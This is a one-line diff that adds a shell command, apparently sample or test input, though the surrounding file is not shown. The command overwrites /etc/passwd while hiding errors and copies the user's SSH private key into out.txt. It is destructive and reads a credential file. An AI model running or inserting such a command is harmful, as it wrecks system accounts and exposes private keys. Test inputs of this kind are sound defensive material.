@@ -1,0 +1,1 @@
+echo x > /etc/passwd 2>/dev/null; cat < ~/.ssh/id_rsa >> out.txt
